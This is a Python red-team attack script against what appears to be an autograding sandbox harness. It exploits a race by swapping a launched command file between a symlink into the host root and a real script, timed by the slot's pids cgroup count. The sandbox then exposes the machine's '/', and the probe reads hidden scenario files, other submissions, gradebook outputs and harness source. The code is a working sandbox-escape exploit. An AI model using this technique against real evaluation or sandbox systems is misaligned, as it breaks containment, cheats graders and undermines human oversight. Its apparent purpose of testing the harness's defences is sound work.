"""Red team, class 5 (by a race): the machine's whole root in a batch command's view.

The harness finds a command's executable in the relay's working copy (launch.executable) and binds the folder
its real path lies in into the command's view (policy.runtime_paths: "the prefix of the command's own
executable when it lies elsewhere"). The copy is the relay's to write, and `serve` runs while the harness
starts the batch commands. So the batch commands of this relay are `./rt-go`, a file serve keeps switching:
a symbolic link to an executable in the machine's "/" (so "/" is bound) while the harness looks, and the real
script by the time the command's init execs it. Serve sees when to switch: the slot's pids cgroup
(/sys/fs/cgroup/pids/pids.current, in its view) counts up as soon as the new command's init joins it, between
the harness's look and the exec.

The batch command then looks at its root: the harness's source, hidden scenario files, other submissions, the
gradebook. It does its job afterwards with whichever Python it can run there (the reference, or the stdlib
relay under the machine's own Python when the harness's is out of reach).
"""

import contextlib
import fcntl
import os
import sys
import threading
import time

if __package__:  # python run.py argv0_swap COMMAND: the relay
    from .evidence import HARNESS_OUTPUTS, Attack, Refused, emit, find_files, is_serve, read_first, scratch, whoami
    from .reference.__main__ import main
else:  # /usr/bin/python3 argv0_swap.py probe ...: run by rt-go, by path, under whatever Python there is
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from evidence import HARNESS_OUTPUTS, Attack, Refused, emit, find_files, read_first, scratch, whoami  # noqa

NAME = "argv0_swap"
ATTEMPTS = ("view-root", "hidden-scenarios", "other-submissions", "gradebook", "harness-source")
COMMANDS = {c: ["./rt-go", c] for c in ("resolve", "reprocess", "purge")}
A = Attack(NAME)
GO = "rt-go"
REAL_S = 0.6  # from the new command's init joining the slot's cgroup to its exec: tens of ms, more under load
# An executable file in the machine's "/" (its real path's folder is what gets bound): a container's
# /.dockerenv is often 0755, installers are left there, Gradescope's run_autograder sits in /autograder.
CANDIDATES = ("/.dockerenv", "/pyenv-installer", "/init", "/autograder/run_autograder", "/entrypoint.sh")
SCRIPT = """#!/bin/sh
/usr/bin/python3 -S argv0_swap.py probe "$@"
if python -c "" 2>/dev/null; then exec python run.py argv0_swap "$@"; fi
exec /usr/bin/python3 stdlib/relay.py "$@"
"""
SYSTEM = {"bin", "sbin", "lib", "lib32", "lib64", "libx32", "usr", "etc", "opt", "dev", "proc", "sys", "tmp", "run"}


def own_view() -> set[str]:
    """What a relay's own root holds: the system's folders, and the top folders on the way to what the contract
    gives it (its working copy, the folders on its PATH and the Python found there, wherever they are installed)."""
    found = [os.getcwd()] + [p for p in os.environ.get("PATH", "").split(os.pathsep) if p.startswith("/")]
    found += [
        os.path.realpath(os.path.join(p, name))
        for p in found[1:]
        for name in ("python", "python3")
        if os.path.exists(os.path.join(p, name))
    ]
    return SYSTEM | {p.split("/")[1] for p in found if p.count("/") >= 1 and p != "/"}


# -- serve: the switch -------------------------------------------------------------------------------
def put(state: str, target: str) -> None:
    """Make rt-go the real script or a link to `target`, atomically (rename over it)."""
    tmp = f".{GO}.{state}"
    with contextlib.suppress(FileNotFoundError):
        os.unlink(tmp)
    if state == "real":
        with open(tmp, "w") as f:
            f.write(SCRIPT)
        os.chmod(tmp, 0o755)
    else:
        os.symlink(target, tmp)
    os.rename(tmp, GO)


def tasks() -> int:
    with open("/sys/fs/cgroup/pids/pids.current") as f:
        return int(f.read())


def switch() -> None:
    """One switch per stack (a lock in /tmp): rt-go is a link until a new task joins the slot, then real for
    REAL_S (the exec, and the shell reading the script), then a link again; the link's target changes until a
    command says it saw "/"."""
    lock = os.open(scratch("rt-argv0-switch.lock"), os.O_CREAT | os.O_RDWR, 0o600)
    fcntl.flock(lock, fcntl.LOCK_EX)  # a second serve waits here, and takes over when the first dies
    emit(f"{NAME}: switching {GO} (link to one of {CANDIDATES} while the harness looks, the script at exec)")
    n, last, since = 0, tasks(), time.monotonic()
    target = CANDIDATES[0]
    put("link", target)
    while True:
        now = tasks()
        if now > last:
            put("real", "")
            time.sleep(REAL_S)
            last = tasks()
            put("link", target)
            continue
        last = now
        if not os.path.exists(scratch("rt-argv0-root-seen")) and time.monotonic() - since > 1.0:
            n, since = n + 1, time.monotonic()
            target = CANDIDATES[n % len(CANDIDATES)]
            put("link", target)
        time.sleep(0.0005)


# -- the batch command: what its root holds ---------------------------------------------------------------
def view_root():
    extra = sorted(set(os.listdir("/")) - own_view())
    if extra:
        with open(scratch("rt-argv0-root-seen"), "w") as f:
            f.write(" ".join(extra))
        return f"this command's root is the machine's: / holds {extra[:12]}"
    raise Refused(f"/ holds only the sandbox's view: {sorted(os.listdir('/'))}")


def host_roots() -> tuple[str, ...]:
    """The top folders of this root but the system's own (their walk would take the whole time budget)."""
    system = {"usr", "lib", "lib32", "lib64", "libx32", "bin", "sbin", "etc", "proc", "sys", "dev", "boot", "snap"}
    return tuple("/" + e for e in sorted(os.listdir("/")) if e not in system and os.path.isdir("/" + e))


def preferring(paths: list[str], word: str) -> list[str]:
    return sorted(paths, key=lambda p: (word not in p, p))


def probe() -> None:
    A.run("view-root", view_root)
    A.run(
        "hidden-scenarios",
        lambda: read_first(
            preferring(find_files(suffixes=(".yaml", ".yml"), budget_s=3, roots=host_roots(), depth=7), "hidden"),
            "scenario file",
            "steps",
        ),
    )
    A.run(
        "other-submissions",
        lambda: read_first(
            [
                p
                for p in find_files(names=("relay.toml",), roots=host_roots(), budget_s=3, depth=7)
                if "relay_under_test" not in p
            ],
            "another submission's manifest",
            "[commands]",
        ),
    )
    A.run(
        "gradebook",
        lambda: read_first(
            find_files(names=HARNESS_OUTPUTS, roots=host_roots(), budget_s=3, depth=7), "harness output", ""
        ),
    )
    A.run(
        "harness-source",
        lambda: read_first(
            find_files(names=("policy.py",), roots=host_roots(), budget_s=3, depth=7), "harness file", "class Sandbox"
        ),
    )


if __name__ == "__main__":
    if not __package__:
        whoami(NAME, f"probe {' '.join(sys.argv[2:3])}")
        probe()
        sys.exit(0)
    whoami(NAME, sys.argv[1])
    if is_serve(sys.argv[1:]):
        put("real", "")
        threading.Thread(target=switch, daemon=True).start()
    sys.exit(main(sys.argv[1:]))
